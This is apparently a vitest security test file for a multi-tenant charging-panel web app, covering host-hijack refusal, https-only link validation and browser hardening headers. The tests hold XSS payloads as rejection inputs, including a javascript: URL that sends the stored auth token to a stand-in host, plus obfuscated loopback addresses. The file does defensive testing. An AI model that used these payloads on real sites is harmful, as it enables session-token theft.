import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeDatabases } from '../testing/test-databases';
import { secondTenant, type SecondTenant } from '../testing/second-tenant';
import { startTestApp, type TestApp } from '../testing/test-app';

const PUBLIC_URL = 'https://panel.chargedeck.example';

describeDatabases('hosts and links cannot be hijacked', (database) => {
  let app: TestApp;
  let rootToken: string;
  let alfa: SecondTenant;
  let beta: SecondTenant;
  let seq = 0;

  const createTenant = (token: string, extra: object, headers: Record<string, string> = {}) =>
    app.http.inject({
      method: 'POST',
      url: '/api/tenants',
      headers: { authorization: `Bearer ${token}`, ...headers },
      payload: { name: 'Sub', alias: `sub-${++seq}`, ...extra },
    });
  const pageHeaders = async (host: string) =>
    (await app.http.inject({ method: 'GET', url: '/', headers: { host } })).headers;

  beforeAll(async () => {
    app = await startTestApp(database, { PUBLIC_URL });
    rootToken = await app.login();
    alfa = await secondTenant(app, database, 'alfa', ['/tenants/create']);
    beta = await secondTenant(app, database, 'beta', ['/tenants/create']);
  });
  afterAll(async () => {
    await app?.close();
  });

  it('lets a child-tenant administrator create tenants, but never assign hosts', async () => {
    const plain = await createTenant(alfa.token, { name: 'Alfa Norte' });
    expect(plain.statusCode).toBe(201);

    const unclaimed = await createTenant(alfa.token, { hosts: ['unclaimed.example.com'] });
    expect(unclaimed.statusCode).toBe(403);
    expect(unclaimed.json().field).toBe('hosts');
    const sibling = await createTenant(beta.token, { hosts: ['alfa-two.localhost'] });
    expect(sibling.statusCode).toBe(403);
    expect(sibling.json().field).toBe('hosts');
    const deepLink = await createTenant(alfa.token, { deeplinkingHost: 'https://evil.example' });
    expect(deepLink.statusCode).toBe(403);
    expect(deepLink.json().field).toBe('deeplinkingHost');

    // Nothing was claimed: the host still answers as the root tenant.
    const root = await pageHeaders('localhost');
    expect((await pageHeaders('unclaimed.example.com'))['api-key']).toBe(root['api-key']);
  });

  it("refuses everyone the platform's own host and the local machine's", async () => {
    for (const host of [
      'panel.chargedeck.example',
      'panel.chargedeck.example:443',
      'localhost',
      'localhost:8080',
      '127.0.0.1',
      '127.0.0.2',
      '2130706433',
      '0x7f.1',
      '0.0.0.0',
    ]) {
      const res = await createTenant(rootToken, { hosts: [host] });
      expect(res.statusCode, host).toBe(400);
      expect(res.json().field, host).toBe('hosts');
    }
    const requestHost = await createTenant(
      rootToken,
      { hosts: ['admin.chargedeck.example'] },
      { host: 'admin.chargedeck.example' },
    );
    expect(requestHost.statusCode).toBe(400);
    expect(requestHost.json().field).toBe('hosts');
    for (const host of ['localhost.', '.example.com', 'a..example.com']) {
      const res = await createTenant(rootToken, { hosts: [host] });
      expect(res.statusCode, host).toBe(400);
    }
  });

  it('lets the root administrator assign a host and an https deep-link host', async () => {
    const res = await createTenant(rootToken, {
      hosts: ['gamma.localhost'],
      deeplinkingHost: 'https://app.gamma.example',
      legal: { termsOfUseUrl: 'https://gamma.example/terms' },
    });
    expect(res.statusCode).toBe(201);
    const headers = await pageHeaders('gamma.localhost');
    expect(headers['api-key']).toBe(res.json().data.api_key);
    expect(headers['terms-of-use']).toBe('https://gamma.example/terms');
    expect(headers['deeplinking-host']).toBe('https://app.gamma.example');
  });

  it('accepts terms and deep-link URLs over https only', async () => {
    const bad = [
      'javascript:fetch("//evil.example?"+localStorage["auth-token"])',
      'data:text/html,<script>alert(1)</script>',
      'http://evil.example/terms',
      'evil.example',
    ];
    for (const url of bad) {
      const terms = await createTenant(alfa.token, { legal: { termsOfUseUrl: url } });
      expect(terms.statusCode, url).toBe(400);
      expect(terms.json().field, url).toBe('legal.termsOfUseUrl');
      const deepLink = await createTenant(rootToken, { deeplinkingHost: url });
      expect(deepLink.statusCode, url).toBe(400);
      expect(deepLink.json().field, url).toBe('deeplinkingHost');
    }
    const local = await createTenant(alfa.token, {
      legal: { termsOfUseUrl: 'http://localhost:5173/terms' },
    });
    expect(local.statusCode).toBe(201);
  });

  it("answers the platform's own and loopback hosts as the root even when a tenant holds them", async () => {
    const root = await pageHeaders('localhost');
    await database.handle.db
      .insertInto('tenant_host')
      .values(
        ['panel.chargedeck.example', '127.0.0.1'].map((host) => ({
          host,
          tenant_pk: beta.tenantPk,
        })),
      )
      .execute();
    expect((await pageHeaders('panel.chargedeck.example'))['api-key']).toBe(root['api-key']);
    expect((await pageHeaders('127.0.0.1:8080'))['api-key']).toBe(root['api-key']);
    expect((await pageHeaders('beta.localhost'))['api-key']).not.toBe(root['api-key']);
  });

  it('never hands a stored non-https link to the web app', async () => {
    await database.handle.db
      .updateTable('tenant')
      .set({
        terms_of_use_url: 'javascript:alert(localStorage["auth-token"])',
        deeplinking_host: 'http://evil.example',
      })
      .where('tenant_pk', '=', beta.tenantPk)
      .execute();
    const headers = await pageHeaders('beta.localhost');
    expect(headers['theme']).toBe('move');
    expect(headers['terms-of-use']).toBe('');
    expect(headers['deeplinking-host']).toBe(PUBLIC_URL);
    const legal = await app.http.inject({
      method: 'GET',
      url: '/api/legal/terms',
      headers: { host: 'beta.localhost' },
    });
    expect(legal.json().termsOfUseUrl).toBeNull();
  });
});

describeDatabases('browser hardening headers', (database) => {
  let app: TestApp;
  const directive = (policy: string, name: string) =>
    policy.split(';').find((part) => part.trim().startsWith(`${name} `)) ?? '';

  beforeAll(async () => {
    app = await startTestApp(database, {
      MAP_TILE_URL: 'https://{s}.tiles.example.net/{z}/{x}/{y}.png',
    });
  });
  afterAll(async () => {
    await app?.close();
  });

  it('puts the policy and frame protection on pages, files, API answers, errors and the docs', async () => {
    const answers = [
      { url: '/', status: 200 },
      { url: '/auth/login', status: 200 },
      { url: '/index.html', status: 200 },
      { url: '/api/health', status: 200 },
      { url: '/api/tenants', status: 401 },
      { url: '/api/nothing-here', status: 404 },
      { url: '/api/docs/json', status: 200 },
      { url: '/api/docs', status: 200 },
      { url: '/api/docs/static/swagger-initializer.js', status: 200 },
    ];
    for (const { url, status } of answers) {
      const res = await app.http.inject({ method: 'GET', url });
      expect(res.statusCode, url).toBe(status);
      const policy = String(res.headers['content-security-policy']);
      expect(directive(policy, 'script-src').trim(), url).toBe("script-src 'self'");
      expect(directive(policy, 'frame-ancestors').trim(), url).toBe("frame-ancestors 'none'");
      expect(directive(policy, 'object-src').trim(), url).toBe("object-src 'none'");
      expect(directive(policy, 'img-src'), url).toContain('https://*.tiles.example.net');
      expect(directive(policy, 'worker-src'), url).toContain('blob:');
      expect(res.headers['x-frame-options'], url).toBe('DENY');
      expect(res.headers['x-content-type-options'], url).toBe('nosniff');
      expect(res.headers['referrer-policy'], url).toBe('strict-origin-when-cross-origin');
      // Plain http here: a proxy in front terminates TLS and sends HSTS itself.
      expect(res.headers['strict-transport-security'], url).toBeUndefined();
    }
  });
});
